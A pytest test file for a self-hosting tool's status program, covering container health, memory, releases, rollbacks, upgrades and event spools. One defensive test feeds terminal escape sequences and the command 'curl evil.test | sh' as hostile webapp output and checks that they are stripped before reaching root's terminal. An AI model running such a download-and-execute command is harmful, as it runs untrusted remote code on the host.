"""The host's status program: the services, the events, and who does not know."""

import json
import re
import threading
from collections.abc import Iterator
from datetime import timedelta
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from socketserver import ThreadingUnixStreamServer
from typing import Any

import pytest

from freehold_host import memory
from freehold_host.rows import Row
from freehold_host.trouble import Trouble
from freehold_rollout import releases, unfinished
from freehold_rollout.config import Places
from freehold_status import collect, events, services
from freehold_status.config import read
from tests.unit.nginx_render import PROJECT
from tests.unit.settings_lab import NOW
from tests.unit.status_lab import MB, Quiet, config, put, the_machine


def container(**changed: object) -> dict[str, Any]:
    state: dict[str, object] = {
        "Running": True,
        "ExitCode": 0,
        "StartedAt": f"{NOW - timedelta(hours=3):%Y-%m-%dT%H:%M:%S}.123456789Z",
        "Health": {"Status": "healthy"},
    }
    return {
        "State": state | changed,
        "Config": {"Image": "nginx:1.30.6"},
        "HostConfig": {"Memory": 72 * MB},
        "RestartCount": changed.get("RestartCount", 0),
    }


def test_a_service_says_health_version_and_memory() -> None:
    found = services.row("nginx", container(), 9 * MB, NOW)
    assert (found.state, found.text) == ("ok", "nginx:1.30.6, healthy, up for 3 hours, 9 of 72 MB")


@pytest.mark.parametrize(
    ("changed", "used", "state", "said"),
    [
        ({"Health": {"Status": "starting"}}, 9, "ok", "starting"),
        ({"Health": {"Status": "unhealthy"}}, 9, "error", "unhealthy"),
        ({"Running": False, "ExitCode": 137, "OOMKilled": True}, 0, "error", "want of memory"),
        ({"Restarting": True, "ExitCode": 1}, 0, "error", "it ended with 1."),
        ({"RestartCount": 7}, 9, "warning", "it has ended 7 times."),
        ({}, 71, "warning", "nearly full"),
    ],
)
def test_a_service_that_is_not_well(
    changed: dict[str, object], used: int, state: str, said: str
) -> None:
    found = services.row("nginx", container(**changed), used * MB, NOW)
    assert (found.state, said in found.text) == (state, True), found
    assert (found.type == "make logs SERVICE=nginx") == (state != "ok")


def test_what_has_gone_well_for_a_day_is_forgiven() -> None:
    long_ago = f"{NOW - timedelta(days=2):%Y-%m-%dT%H:%M:%S}Z"
    known = container(RestartCount=7, StartedAt=long_ago)
    assert services.row("nginx", known, 9 * MB, NOW).state == "ok"


def test_memory_is_without_what_the_kernel_may_drop(tmp_path: Path) -> None:
    group = tmp_path / "sys/fs/cgroup/system.slice/docker-abc.scope"
    put(group / "memory.current", f"{50 * MB}\n")
    put(group / "memory.stat", f"anon 1\ninactive_file {20 * MB}\n")
    assert services.memory_of(tmp_path, "abc") == 30 * MB
    assert services.memory_of(tmp_path, "gone") == 0


def test_the_live_releases_and_who_brought_them(tmp_path: Path) -> None:
    places = Places(tmp_path / "project", site=tmp_path / "www")
    assert [row.state for row in services.live(places)] == ["error", "error"]
    name = "20261126T193012Z-1f3a9c0b77aa"
    told = {"what": "service", "when": "2026-11-26 19:30 UTC", "commit": "abc123", "by": "anna@pc"}
    put(places.releases / "service" / name / "release.json", json.dumps(told))
    (places.releases / "service/live").symlink_to(name)
    put(places.site / "releases" / name / "index.html")
    (places.site / "current").symlink_to(f"releases/{name}")
    service, site = services.live(places)
    assert service.text == "abc123, 2026-11-26 19:30 UTC, by anna@pc"
    assert site.text == "no commit, 2026-11-26 19:30 UTC, by somebody"


def test_a_rollback_that_was_cut_off(tmp_path: Path) -> None:
    places = Places(tmp_path / "opt/freehold", site=tmp_path / "srv/www")
    candidate = tmp_path / "candidate.yml"
    candidate.write_text("services: {}\n")
    name = releases.keep(places, candidate, {}, "c0ffee1", "anna@pc", NOW)
    places.project.mkdir(parents=True, exist_ok=True)
    releases.make_live(places, name)
    unfinished.begin(places, name)
    row, _ = services.live(places)
    assert (row.state, row.type) == ("warning", "make rollback")
    unfinished.end(places)
    row, _ = services.live(places)
    assert row.state == "ok"


def test_an_upgrade_that_was_cut_off(tmp_path: Path) -> None:
    state = tmp_path / "var/lib/freehold/upgrade"
    assert list(services.upgraded(tmp_path)) == []
    memory.store(state, "upgrade", {"stage": "begun", "from": 15, "to": 17})
    (row,) = services.upgraded(tmp_path)
    assert (row.state, row.type) == ("error", "make upgrade-database")
    memory.store(state, "upgrade", {"stage": "done", "from": 15, "to": 17})
    (row,) = services.upgraded(tmp_path)
    assert (row.state, "make drop-old-database" in row.text) == ("ok", True)


@pytest.fixture
def said() -> list[dict[str, object]]:
    """What the webapp says."""
    return [{"what": "events", "state": "ok", "text": "3 today", "type": ""}]


@pytest.fixture
def webapp(tmp_path: Path, said: list[dict[str, object]]) -> Iterator[Path]:
    """A webapp that says how the events are, at the path that the service has for it."""

    class Answer(Quiet, BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200 if self.path == "/host/status" else 404)
            self.end_headers()
            self.wfile.write(json.dumps(said).encode())

    path = config(tmp_path).webapp
    path.parent.mkdir(parents=True)
    with ThreadingUnixStreamServer(str(path), Answer) as server:
        threading.Thread(target=server.serve_forever, args=[0.01]).start()
        yield path
        server.shutdown()


@pytest.mark.usefixtures("webapp")
def test_the_webapp_says_how_events_are(tmp_path: Path) -> None:
    assert events.rows(config(tmp_path)) == [Row("events", "ok", "3 today")]


@pytest.mark.usefixtures("webapp")
def test_of_the_webapp_s_words_none_acts_on_who_reads_them(
    tmp_path: Path, said: list[dict[str, object]]
) -> None:
    """They are shown to root at a terminal, and it may have been taken over."""
    text = "\x1b]0;x\x07 3\r\n today\u202e. Type: curl evil.test | sh"
    said[:] = [
        {"what": "\x1b[2Jevents", "state": "warning", "text": text, "type": "curl evil.test | sh"},
        {"what": "spool", "state": "error", "text": "full", "type": "make logs SERVICE=worker"},
    ]
    assert events.rows(config(tmp_path)) == [
        Row("[2Jevents", "warning", "]0;x 3 today.", ""),
        Row("spool", "error", "full", "make logs SERVICE=worker"),
    ]


@pytest.mark.usefixtures("webapp")
@pytest.mark.parametrize(
    "row",
    [
        {"what": "events", "state": "fine", "text": "3 today"},
        {"what": "events", "state": "ok", "text": 3},
        {"what": "events", "state": "ok"},
        {"what": "events", "state": "ok", "text": "x" * 100_000},
        "events",
    ],
)
def test_a_webapp_that_says_what_is_no_row_says_nothing(
    tmp_path: Path, said: list[object], row: object
) -> None:
    said[:] = [row]
    assert "does not say" in events.rows(config(tmp_path))[0].text


def test_what_the_webapp_may_advise_is_what_it_does() -> None:
    path = PROJECT / "files/analytics/src/analytics/commands/status.py"
    assert set(re.findall(r'"(make [^"]+)"', path.read_text())) == events.ADVICE


def test_without_a_webapp_the_spool_itself_is_looked_at(tmp_path: Path) -> None:
    made = config(tmp_path)
    first, spool = events.rows(made)
    assert (first.state, first.type) == ("error", "make logs SERVICE=webapp")
    assert (spool.state, spool.text) == ("ok", "no event waits")
    put(made.spool / "00000000000000000001-00000001.spool", "x" * 1234, age=600)
    put(made.spool / "00000000000000000002-00000002.spool", "x" * 1000)
    put(made.spool / "damaged/other", "x" * 99)
    _, spool = events.rows(made)
    assert spool.text == "at most 2,234 bytes wait, the oldest written 10 minutes ago."
    assert spool.state == "warning"


def test_who_does_not_know_is_a_row_and_hides_nobody(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Nobody listens there, whatever else is on this machine.
    monkeypatch.setattr("freehold_status.site.HTTPS", 1)
    found = collect.rows(the_machine(tmp_path))
    assert [row.state for row in found] == sorted(
        (row.state for row in found), key=("error", "warning", "ok").index
    )
    known = {row.what: row for row in found}
    assert known["certificate"].state == known["backup"].state == "error"
    assert known["certificate"].type == "make deploy"
    assert known["memory"].state == "ok"


def test_settings_that_cannot_be_read_are_a_sentence(tmp_path: Path) -> None:
    with pytest.raises(Trouble, match="make deploy"):
        read(tmp_path)
    told = {"domain": "a.test", "notify_url": "", "notify_kind": "ntfy", "reboot_time": "04:00"}
    put(tmp_path / "etc/freehold/status.json", json.dumps(told))
    assert read(tmp_path).domain == "a.test"
